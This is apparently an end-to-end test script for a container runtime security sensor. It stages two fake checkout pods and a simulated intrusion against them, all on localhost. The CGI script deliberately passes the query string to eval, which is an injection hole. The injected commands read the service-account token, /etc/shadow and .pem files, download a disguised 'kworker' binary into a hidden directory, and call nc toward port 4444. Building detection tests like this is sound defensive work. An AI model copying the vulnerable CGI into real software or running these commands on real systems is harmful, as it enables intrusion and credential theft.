# SPDX-License-Identifier: Apache-2.0
# case_make: what docs/RESPONDING.md is about, for who has tests/e2e/lib.sh and a sensor that runs. Two pods of one workload with a web server and a CGI
# program that runs what it is asked for; somebody asks the first one, and somebody comes in to look. $dropper: port of where things are fetched
# from.
case_pods=(checkout-6d5f9c7b8-x2x7k checkout-6d5f9c7b8-q9v4d)

# As below a runtime's shim, and not below a test.
case_shim() { setsid -f "$work/containerd-shim" -c 'runc --root "$0" "$@" </dev/null >/dev/null 2>&1; true' "$work/runc" "$@"; }

# case_pod NUMBER PORT: the pod runs; its container's id is in case_ids.
case_pod() {
	local n=$1 port=$2 dir=$work/web$1 applet page id uid
	id=$(new_id) uid=$(cat /proc/sys/kernel/random/uuid)
	POD=${case_pods[n]} NAMESPACE=shop POD_UID=$uid CONTAINER=web IMAGE=registry.example/shop/checkout:4.2 ROOTFS=$dir/rootfs \
		tests/demo/bundle.sh "$dir" "$id" "/$tree/kubepods/burstable/pod$uid/$id" /bin/httpd -f -p "127.0.0.1:$port" -h /www
	for applet in httpd wget nc ping nslookup chmod ps uname whoami find grep date head timeout; do ln -sf busybox "$dir/image/bin/$applet"; done
	mkdir -p "$dir/image/www/cgi-bin" "$dir/upper" "$dir/workdir"
	echo 'nameserver 127.0.0.1' >"$dir/image/etc/resolv.conf"
	for page in index cart about terms; do echo "<h1>$page</h1>" >"$dir/image/www/$page.html"; done
	cat >"$dir/image/www/cgi-bin/status" <<-'CGI'
		#!/bin/sh
		echo "Content-Type: text/plain"
		echo
		eval "printf 'host %s' $(httpd -d "$QUERY_STRING")"
	CGI
	chmod +x "$dir/image/www/cgi-bin/status"
	mount -t overlay -o "lowerdir=$dir/image,upperdir=$dir/upper,workdir=$dir/workdir" varve-case "$dir/rootfs"
	on_exit+=("umount $dir/rootfs")
	case_shim run --detach --bundle "$dir" "$id"
	wait_for 10 curl -s "http://127.0.0.1:$port/index.html"
	case_ids[n]=$id
}
case_visit() { # PORT TIMES: customers
	local page
	for _ in $(seq "$2"); do
		for page in index cart about terms; do curl -s "http://127.0.0.1:$1/$page.html" >/dev/null; done
		sleep 0.0$((RANDOM % 9 + 1))
	done
	curl -s "http://127.0.0.1:$1/cgi-bin/status?checkout" >/dev/null
}

case_make() {
	local port=18088 twin=18089 id
	case_ids=()
	ask() { curl -s --get --data-urlencode "a; $1" "http://127.0.0.1:$port/cgi-bin/status" >/dev/null; }
	cp "$(command -v bash)" "$work/containerd-shim"
	python3 -m http.server --bind 127.0.0.1 --directory "$work" 0 >"$work/http.log" 2>&1 &
	local server=$!
	on_exit+=("kill $server 2>/dev/null")
	wait_for 10 eval '[ -n "$(ss -Hltnp | grep "pid='"$server"',")" ]'
	dropper=$(ss -Hltnp | sed -nE "s/.*127\.0\.0\.1:([0-9]+).*pid=$server,.*/\1/p")
	cp "$(command -v busybox)" "$work/kworker"
	case_pod 0 $port && case_pod 1 $twin || return 1
	case_visit $twin 5
	case_visit $port 25
	case_visit $port 15
	ask 'id; uname -a'
	sleep 0.4
	ask 'cat /var/run/secrets/kubernetes.io/serviceaccount/token; cat /etc/shadow; find / -name "*.pem"'
	ask 'timeout 1 nslookup updates.cdn-metrics.example'
	case_visit $port 10
	ask "mkdir /tmp/.x; wget -q -O /tmp/.x/kworker http://127.0.0.1:$dropper/kworker; chmod +x /tmp/.x/kworker"
	ask '/tmp/.x/kworker nc -w 1 127.0.0.1 4444; for i in 1 2 3 4 5 6; do /tmp/.x/kworker true --threads 2; done; rm /tmp/.x/kworker'
	case_visit $port 20
	case_shim exec "${case_ids[0]}" /bin/sh -c 'ps; ls -la /tmp/.x; head -n 1 /etc/passwd'
	case_visit $port 10
	case_visit $twin 5
	for id in "${case_ids[@]}"; do
		runc_ kill "$id" KILL
		wait_for 10 sh -c "runc --root '$work/runc' state '$id' | grep -q stopped" && runc_ delete "$id"
	done
}
